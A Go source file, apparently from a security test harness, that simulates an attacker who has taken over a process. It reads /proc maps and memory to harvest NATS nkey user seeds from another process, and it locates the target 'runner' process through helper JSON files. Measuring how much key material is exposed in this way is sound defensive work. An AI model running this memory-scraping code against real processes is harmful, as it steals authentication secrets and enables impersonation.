package attack

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"

	"github.com/nats-io/nkeys"
)

// stolen are the keys in the memory of a process, as one who has taken the process over has them.
func stolen(pid int) ([]string, error) {
	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return nil, err
	}
	defer maps.Close()
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return nil, err
	}
	defer mem.Close()
	seed := regexp.MustCompile(`SU[A-Z2-7]{56}`)
	var found []string
	for lines := bufio.NewScanner(maps); lines.Scan(); {
		f := strings.Fields(lines.Text())
		var from, to int64
		if len(f) < 5 || !strings.HasPrefix(f[1], "rw-p") || f[4] != "0" {
			continue // only what is the process's own, and writable
		}
		if n, err := fmt.Sscanf(f[0], "%x-%x", &from, &to); n != 2 || err != nil || to-from > 256<<20 {
			continue
		}
		b := make([]byte, to-from)
		n, err := mem.ReadAt(b, from)
		if err != nil && n == 0 {
			continue // reserved and not there
		}
		for _, s := range seed.FindAll(b[:n], -1) {
			if kp, err := nkeys.FromSeed(s); err == nil {
				kp.Wipe()
				found = append(found, string(s))
			}
		}
	}
	slices.Sort(found)
	return slices.Compact(found), nil
}

// runner is the process that hosts a namespace.
func (s *scene) runner(namespace string) (int, error) {
	files, err := filepath.Glob(filepath.Join(s.Home(), "run", "helper-*.json"))
	if err != nil {
		return 0, err
	}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			continue // it has just ended
		}
		var r struct {
			Kind, Namespace string
			PID             int
		}
		if err := json.Unmarshal(b, &r); err != nil {
			return 0, fmt.Errorf("%s: %w", f, err)
		}
		if r.Namespace == namespace && r.Kind == "runner" {
			return r.PID, nil
		}
	}
	return 0, fmt.Errorf("no runner hosts %s", namespace)
}
